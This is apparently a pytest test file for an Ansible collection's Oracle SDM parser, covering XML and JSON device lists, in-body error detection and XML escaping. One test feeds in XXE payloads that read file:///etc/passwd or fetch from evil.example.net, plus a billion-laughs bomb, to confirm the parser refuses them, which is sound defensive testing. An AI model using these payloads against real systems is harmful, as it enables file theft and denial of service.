# SPDX-FileCopyrightText: 2026 The netfleet.maintenance authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The documents of Oracle SDM in every dialect, and what must not be taken for one."""

from __future__ import annotations

import codecs
import json
import typing as t
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.netfleet.maintenance.plugins.module_utils._errors import NoAnswer, SignInRefused
from ansible_collections.netfleet.maintenance.plugins.module_utils._http.messages import Answer
from ansible_collections.netfleet.maintenance.plugins.module_utils._oracle_sdm import documents as _sdm_documents
from ansible_collections.netfleet.maintenance.plugins.module_utils._oracle_sdm.documents import (
    SdmDevice,
    devices_in,
    error_inside,
    read,
    write,
)

RECORD = (
    "<bootstrapState>Activated</bootstrapState><connectivityStatus>true</connectivityStatus><id>ID41</id>"
    "<ip>192.0.2.41</ip><key>sbc-lab-07_192.0.2.41</key><manageable>false</manageable><name>sbc-lab-07</name>"
    "<nfId>ID40</nfId><nfName>lab-pair</nfName><parentGroupId>ID40</parentGroupId>"
    "<platformInfo><platform>NNOSVM</platform><serialNumber>S1</serialNumber></platformInfo>"
    "<softwareInfo><configVersion>12</configVersion><version>SCZ910</version></softwareInfo>"
)
DEVICE = SdmDevice(
    "ID41", "sbc-lab-07", "192.0.2.41", "S1", "NNOSVM", "SCZ910", "12", True, False, "lab-pair", "ID40", "ID40"
)
JSON_RECORD = {
    "id": "ID41",
    "name": "sbc-lab-07",
    "ip": "192.0.2.41",
    "connectivityStatus": True,
    "manageable": "false",
    "nfName": "lab-pair",
    "nfId": "ID40",
    "parentGroupId": "ID40",
    "platformInfo": {"platform": "NNOSVM", "serialNumber": "S1"},
    "softwareInfo": {"version": "SCZ910", "configVersion": "12"},
}
SMALL = "<id>ID7</id><name>b</name>"


def answer(body: bytes | str, media_type: str = "application/xml", status: int = 200) -> Answer:
    return Answer(status, {"content-type": media_type}, body.encode() if isinstance(body, str) else body)


def devices(body: bytes | str) -> list[SdmDevice]:
    return devices_in(read(answer(body)))


def ids(body: object) -> list[str]:
    return [device.id for device in devices(body if isinstance(body, (str, bytes)) else json.dumps(body))]


# Lists


@pytest.mark.row(47)
@pytest.mark.parametrize("item", ["device", "devices"])
def test_both_xml_dialects_hold_the_same_devices(item: str) -> None:
    body = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<devices><{item}>{RECORD}</{item}></devices>'
    assert devices(body) == [DEVICE]
    body = f"<devices><{item}>{RECORD}</{item}><{item}>{SMALL}</{item}></devices>"
    assert ids(body) == ["ID41", "ID7"]


@pytest.mark.row(50)
@pytest.mark.parametrize(
    "shape",
    [
        {"devices": [JSON_RECORD]},
        {"devices": {"device": [JSON_RECORD]}},
        {"devices": {"devices": [JSON_RECORD]}},
        {"devices": {"device": JSON_RECORD}},
        {"devices": JSON_RECORD},
        {"device": [JSON_RECORD]},
        {"device": JSON_RECORD},
        [JSON_RECORD],
        JSON_RECORD,
    ],
)
def test_every_json_shape_holds_the_same_device(shape: object) -> None:
    assert devices(json.dumps(shape)) == [DEVICE]


@pytest.mark.parametrize(
    "body",
    ["<devices/>", "<devices></devices>", "<devices>\n</devices>", "{}", "[]", '{"devices": []}', '{"devices": null}'],
)
def test_an_empty_list_is_a_list(body: str) -> None:
    assert devices(body) == []


@pytest.mark.row(50)
@pytest.mark.parametrize(
    "body",
    [
        "<session><sessionId>x</sessionId></session>",
        "<device><id>ID1</id></device>",
        "<devices>no devices here</devices>",
        "<devices><nf><id>ID1</id></nf></devices>",
        "<devices><error>no</error></devices>",
        "<error/>",
        '{"nfs": [{"id": "ID1"}]}',
        '{"devices": "none"}',
        '{"devices": 3}',
        '{"devices": ["ID1"]}',
        '{"devices": [null]}',
        '{"devices": [{"id": "ID1"}, ""]}',
        '{"devices": {}}',
        '{"devices": {"x": []}}',
        '{"status": "error"}',
        "<devices><device><name>no id</name></device></devices>",
        "<devices><device><id/><name>no id</name></device></devices>",
        '{"devices": [{"id": null, "name": "a"}]}',
        '{"devices": [{"id": {"x": 1}, "name": "a"}]}',
    ],
)
def test_what_is_no_list_of_devices_never_looks_like_an_empty_one(body: str) -> None:
    with pytest.raises(NoAnswer):
        devices(body)


def test_only_the_id_is_required() -> None:
    assert devices("<devices><device><id>ID1</id></device></devices>") == [
        SdmDevice("ID1", "", None, None, None, None, None, None, None, None)
    ]


@pytest.mark.row(47)
def test_what_is_not_known_is_passed_over_whatever_its_order() -> None:
    body = (
        '<d:devices xmlns:d="urn:x" newer="1"><!-- c --><d:device><d:name>a</d:name><d:lockState>x</d:lockState>'
        "<d:platformInfo/><d:id>ID1</d:id><d:list><d:x>1</d:x><d:x>2</d:x></d:list></d:device></d:devices>"
    )
    assert [(device.id, device.name) for device in devices(body)] == [("ID1", "a")]


@pytest.mark.parametrize("serial", ["--", "", " -- "])
def test_a_serial_that_stands_for_none_is_none(serial: str) -> None:
    body = (
        f"<devices><device>{SMALL}<platformInfo><serialNumber>{serial}</serialNumber></platformInfo></device></devices>"
    )
    assert devices(body)[0].serial is None


@pytest.mark.row(49)
def test_ids_are_texts_whatever_json_makes_of_them() -> None:
    assert ids({"devices": [{"id": 41, "name": "a"}, {"id": 2**70, "name": "b"}]}) == ["41", str(2**70)]


# What must not be read


@pytest.mark.row(44, 45)
@pytest.mark.parametrize(
    "body",
    [
        "<!DOCTYPE devices><devices/>",
        '<!DOCTYPE d [<!ENTITY a "x">]><devices>&a;</devices>',
        '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><devices>&a;</devices>',
        '<!DOCTYPE d [<!ENTITY % a SYSTEM "http://evil.example.net/x"> %a;]><devices/>',
        '<!DOCTYPE d SYSTEM "http://evil.example.net/x.dtd"><devices/>',
        '<!DOCTYPE lolz [<!ENTITY l "lol">'
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1 or str()};" * 10}">' for n in range(1, 10))
        + "]><devices>&l9;</devices>",
        "<devices>&undefined;</devices>",
    ],
    ids=["doctype", "entity", "file", "parameter", "dtd", "billion laughs", "undefined"],
)
def test_no_entity_is_ever_expanded(body: str) -> None:
    with pytest.raises(NoAnswer, match="not usable XML"):
        devices(body)


@pytest.mark.row(46)
@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"  \n",
        b"OK",
        b"<devices>",
        b"<devices></device>",
        b"<devices/><devices/>",
        b"<devices>\x00</devices>",
        b"<devices>\x01</devices>",
        b"<devices>\xff</devices>",
        b"<devices>" + "é".encode("latin-1") + b"</devices>",
        b'<?xml version="1.0" encoding="no-such-code"?><devices/>',
        b'<?xml version="1.0" encoding="UTF-16"?><devices/>',
        b'<?xml version="2.0"?><devices/',
        b"null",
        b'"devices"',
        b"{",
        b'{"devices": []} trailing',
        b'{"devices": [], "devices": [{"id": "ID1"}]}',
        b'{"devices": NaN}',
        b"[" * 100_000,
    ],
)
def test_what_is_no_document_is_a_clean_error(body: bytes) -> None:
    with pytest.raises(NoAnswer) as caught:
        read(answer(body, status=200))
    assert caught.value.status == 200
    assert str(caught.value).startswith("Oracle SDM answered with something that is not")


@pytest.mark.row(46)
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "latin-1"])
def test_another_encoding_is_read_or_refused_but_never_misread(encoding: str) -> None:
    text = "<devices><device><id>ID1</id><name>é</name></device></devices>"
    declared = {"utf-16": "UTF-16", "latin-1": "ISO-8859-1"}.get(encoding, "UTF-8")
    body = f'<?xml version="1.0" encoding="{declared}"?>{text}'.encode(encoding)
    try:
        found = devices(body)
    except NoAnswer:
        assert encoding in ("utf-16-le", "utf-16-be")
    else:
        assert [(device.id, device.name) for device in found] == [("ID1", "é")]


@pytest.mark.row(46)
def test_json_after_a_byte_order_mark_is_read() -> None:
    assert ids(codecs.BOM_UTF8 + b'{"devices": [{"id": "ID1", "name": "a"}]}') == ["ID1"]


@pytest.mark.row(45)
@pytest.mark.parametrize("depth", [33, 100_000])
def test_xml_that_is_nested_too_deep_is_refused(depth: int) -> None:
    with pytest.raises(NoAnswer, match="nested deeper than 32 levels"):
        read(answer(b"<a>" * depth + b"</a>" * depth))


def test_xml_as_deep_as_any_document_is_read() -> None:
    read(answer(b"<a>" * 32 + b"</a>" * 32))


@pytest.mark.row(45)
def test_xml_of_too_many_elements_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_sdm_documents, "MOST_ELEMENTS", 100)
    read(answer(b"<a>" + b"<b/>" * 99 + b"</a>"))
    with pytest.raises(NoAnswer, match="more than 100 elements"):
        read(answer(b"<a>" + b"<b/>" * 100 + b"</a>"))


@pytest.mark.row(27, 42)
@pytest.mark.parametrize(
    ("body", "media_type"),
    [
        ("<html><body>Sign in</body></html>", "text/html;charset=utf-8"),
        ("<!DOCTYPE html><html></html>", "application/xml"),
        ("\ufeff <!doctype HTML>", ""),
        ("  <HTML>", "text/plain"),
        ("<devices/>", "text/html"),
        ("", "text/html"),
    ],
)
def test_a_page_for_people_is_a_sign_in_that_is_over(body: str, media_type: str) -> None:
    with pytest.raises(SignInRefused, match=r"HTML page.*check api_url"):
        read(answer(body, media_type))


@pytest.mark.row(46)
@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode))
def test_no_body_is_a_defect(body: bytes) -> None:
    try:
        document = read(answer(body))
        devices_in(document)
        error_inside(answer(body))
    except (NoAnswer, SignInRefused):
        pass


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=5),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(["devices", "device", "id", "name", "platformInfo", "x", ""]), inner, max_size=4
            )
        ),
        max_leaves=12,
    )
)
def test_no_json_document_is_a_defect(document: t.Any) -> None:
    try:
        found = devices(json.dumps(document))
    except (NoAnswer, SignInRefused):
        return
    assert all(device.id for device in found)


# Errors inside a success


@pytest.mark.row(43)
@pytest.mark.parametrize(
    ("body", "text"),
    [
        ("<error>device is busy</error>", "device is busy"),
        ("<error><code>7</code><message>device is busy</message></error>", "device is busy"),
        ("<result><errorMessage>device\n is busy</errorMessage></result>", "device is busy"),
        ("<Fault/>", "Fault"),
        ("<result><error/></result>", "error"),
        ('{"error": "device is busy"}', "device is busy"),
        ('{"error": {"message": "device is busy"}}', "device is busy"),
        ('{"errors": ["device is busy"]}', "['device is busy']"),
        ('{"error": true}', "True"),
    ],
)
def test_an_error_inside_a_success_is_found(body: str, text: str) -> None:
    assert error_inside(answer(body)) == text


@pytest.mark.parametrize(
    "body",
    [
        "",
        " \n",
        "<deviceAction><type>Lock</type></deviceAction>",
        "<ok/>",
        "{}",
        '{"error": null, "errors": []}',
        '{"error": false}',
    ],
)
def test_a_success_that_says_nothing_of_an_error_has_none(body: str) -> None:
    assert error_inside(answer(body)) is None


def test_the_text_of_an_error_is_one_short_line() -> None:
    assert len(str(error_inside(answer(f"<error>{'x ' * 5000}</error>")))) <= 200


@pytest.mark.parametrize("body", ["OK", "<broken"])
def test_a_body_that_cannot_be_read_is_not_taken_for_a_success(body: str) -> None:
    with pytest.raises(NoAnswer):
        error_inside(answer(body))


# Writing


@pytest.mark.row(48)
@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]) | st.sampled_from("<>&\"'\t\n"), max_size=40))
def test_what_is_written_is_escaped_and_comes_back(value: str) -> None:
    if any(ord(letter) & 0xFFFF >= 0xFFFE for letter in value):
        return
    document = write("session", {"userName": "lockbot", "password": value})
    root = ElementTree.fromstring(document)
    assert [(child.tag, child.text or "") for child in root] == [("userName", "lockbot"), ("password", value)]


def test_an_action_is_written_as_documented() -> None:
    assert write("deviceAction", {"type": "Lock"}) == (
        b"<?xml version='1.0' encoding='utf-8'?>\n<deviceAction><type>Lock</type></deviceAction>"
    )
